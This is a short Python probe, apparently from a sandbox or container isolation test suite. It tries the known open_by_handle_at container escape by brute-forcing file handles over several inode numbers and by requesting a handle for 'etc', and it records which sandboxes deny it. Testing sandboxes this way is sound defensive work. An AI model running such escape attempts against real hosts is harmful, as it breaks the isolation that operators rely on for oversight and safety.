# Tries to open files of the host by their number instead of by path, as one way out of containers once did.
# gvisor, microvm: denied
import ctypes
import os
import struct

from attempt import attempt, syscall

NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT = 303, 304
here = os.open("/", os.O_RDONLY)
for kind in (1, 2, 0x81):
    for inode in (2, 64, 128, 256):
        handle = struct.pack("IiQ", 8, kind, inode) + bytes(64)
        attempt(
            f"kind {kind} inode {inode}", lambda handle=handle: syscall(OPEN_BY_HANDLE_AT, here, handle, os.O_RDONLY)
        )
made, mount = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128)), ctypes.create_string_buffer(8)
syscall_back = lambda: syscall(OPEN_BY_HANDLE_AT, here, made, os.O_RDONLY)  # noqa: E731
try:
    syscall(NAME_TO_HANDLE_AT, here, b"etc", made, mount, 0)
except OSError:
    pass
attempt("its own handle", syscall_back)
